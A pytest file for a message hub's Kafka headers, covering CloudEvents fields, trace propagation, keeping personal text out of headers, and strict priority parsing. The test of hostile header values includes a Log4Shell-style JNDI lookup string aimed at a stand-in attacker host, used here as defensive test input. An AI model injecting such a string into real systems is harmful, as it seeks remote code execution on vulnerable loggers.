"""The headers of a record: CloudEvents and the trace, and nothing of a person."""

import re
from datetime import UTC, datetime
from typing import Any

import pytest

from schemas.base import Message
from schemas.catalogue import CPI_FORM, Schema
from schemas.enums import Channel, Priority
from streams.envelope import PRIORITY_HEADER, Context, Record, headers, priority_of
from tests.console.samples import assessed, proposal
from tests.forms import SOURCE_WORDS, form
from tests.schemas.samples import EVERY

NOW = datetime(2026, 10, 5, 13, 30, tzinfo=UTC)
LATER = datetime(2026, 11, 5, 13, 30, tzinfo=UTC)
TRACE = "4bf92f3577b34da6a3ce929d0e0e4736"
SUBJECT = "CPI-202610-ABCDEFGHJK"


def record(**sent: bytes) -> Record:
    """A record with these headers."""
    return Record("cpi.intake", 0, 7, b"key", b"value", sent, NOW)


def made(context: Context | None = None, now: datetime = NOW) -> dict[str, str]:
    """The headers of a form."""
    found = headers(CPI_FORM, MINE, SUBJECT, context or Context(), now)
    return {name: value.decode("ascii") for name, value in found.items()}


MINE = form()


@pytest.mark.parametrize(("schema", "message"), EVERY, ids=lambda each: type(each).__name__)
def test_every_message_has_cloudevents_headers(schema: Schema[Any], message: Message) -> None:
    """Binary mode, the four that CloudEvents asks for, and the time with its zone."""
    found = headers(schema, message, SUBJECT, Context(), NOW)
    assert found["ce_specversion"] == b"1.0"
    assert found["ce_id"].decode() == message.event_id
    assert found["ce_type"].decode() == schema.event_type
    assert found["ce_source"] == b"kafka"
    assert datetime.fromisoformat(found["ce_time"].decode()) == NOW
    assert re.fullmatch(rb"00-[0-9a-f]{32}-[0-9a-f]{16}-01", found["traceparent"])


@pytest.mark.parametrize(("schema", "message"), EVERY, ids=lambda each: type(each).__name__)
def test_no_header_holds_what_a_person_wrote(schema: Schema[Any], message: Message) -> None:
    """Only names, numbers and times that the hub itself gives: letters of ASCII, no white space."""
    for name, value in headers(schema, message, SUBJECT, Context(), NOW).items():
        assert re.fullmatch(rb"[A-Za-z0-9:+._/-]+", value), name


def test_the_headers_of_a_form_do_not_name_its_source() -> None:
    """Headers are read by tools that may not see the value."""
    text = " ".join(made().values()).lower()
    assert not [word for word in SOURCE_WORDS if word.lower() in text]


def test_the_same_message_has_the_same_id_and_trace_whenever_it_is_sent() -> None:
    """Only the time differs: a receiver can tell that it has it already."""
    one, other = made(), made(now=LATER)
    assert one.pop("ce_time") != other.pop("ce_time")
    assert one == other


@pytest.mark.parametrize("channel", list(Channel))
def test_the_source_is_the_channel_and_goes_on(channel: Channel) -> None:
    """From the record that came to those that it causes."""
    context = Context.of(record(ce_source=channel.value.encode()))
    assert made(context)["ce_source"] == channel.value


def test_a_trace_that_came_goes_on() -> None:
    """With a span of the hub's own."""
    context = Context.of(record(traceparent=f"00-{TRACE}-00f067aa0ba902b7-01".encode()))
    trace, span = made(context)["traceparent"].split("-")[1:3]
    assert trace == TRACE
    assert span != "00f067aa0ba902b7"


def test_a_form_without_a_trace_gets_one_of_its_own() -> None:
    """Always the same for a form, and another for another form."""
    other = headers(CPI_FORM, MINE, "CPI-202610-0123456789", Context(), NOW)
    assert made()["traceparent"][3:35] == made(now=LATER)["traceparent"][3:35]
    assert made()["traceparent"][3:35] != other["traceparent"].decode()[3:35]


@pytest.mark.parametrize(
    "value",
    [
        b"",
        b"\xff\xfe\x00",
        b"x" * 100_000,
        b"amqp\n",
        b"AMQP",
        f"00-{TRACE}-00f067aa0ba902b7".encode(),
        f"00-{TRACE}-00f067aa0ba902b7-01\n".encode(),
        f"00-{TRACE.upper()}-00f067aa0ba902b7-01".encode(),
        f"ff-{TRACE}-00f067aa0ba902b7-01".encode(),
        b"00-" + b"0" * 32 + b"-00f067aa0ba902b7-01",
        "00-\u0663".encode(),
        b"${jndi:ldap://evil.example/a}",
    ],
)
def test_hostile_headers_are_left_out(value: bytes) -> None:
    """Whatever a client puts there, the hub goes on as if there were none."""
    assert Context.of(record(ce_source=value, traceparent=value)) == Context()


def test_a_header_without_value_is_left_out() -> None:
    """Kafka's headers may be null."""
    empty: Any = None
    assert Context.of(record(ce_source=empty, traceparent=empty)) == Context()


def test_a_record_says_its_place() -> None:
    """As dead letters, receipts and log lines write it."""
    assert record().place == "cpi.intake/0/7"


@pytest.mark.parametrize(("schema", "message"), EVERY, ids=lambda each: type(each).__name__)
def test_what_belongs_to_a_high_form_says_so_undecoded(
    schema: Schema[Any], message: Message
) -> None:
    """In the header that lets the next stage take it first; no other message does."""
    found = headers(schema, message, SUBJECT, Context(), NOW)
    priority = priority_of(message)
    assert found.get(PRIORITY_HEADER) == (priority.value.encode() if priority else None)
    assert record(**{PRIORITY_HEADER: found.get(PRIORITY_HEADER, b"")}).is_urgent == (
        priority is Priority.HIGH
    )


def test_the_decision_counts_before_the_recommendation() -> None:
    """A person has lowered it, or raised it."""
    mine = assessed(form())
    assert priority_of(mine) is mine.decision.priority
    decision = mine.decision.model_copy(update={"priority": Priority.HIGH})
    assert priority_of(mine.model_copy(update={"decision": decision})) is Priority.HIGH
    assert priority_of(proposal(form())) is Priority.NORMAL
    assert priority_of(form()) is None


@pytest.mark.parametrize("value", [b"high", b"HIGH ", b"", b"\xff", None])
def test_only_the_word_itself_is_urgent(value: Any) -> None:  # noqa: ANN401 - Kafka's may be null
    """Whatever a client puts there."""
    assert not record(**{PRIORITY_HEADER: value}).is_urgent
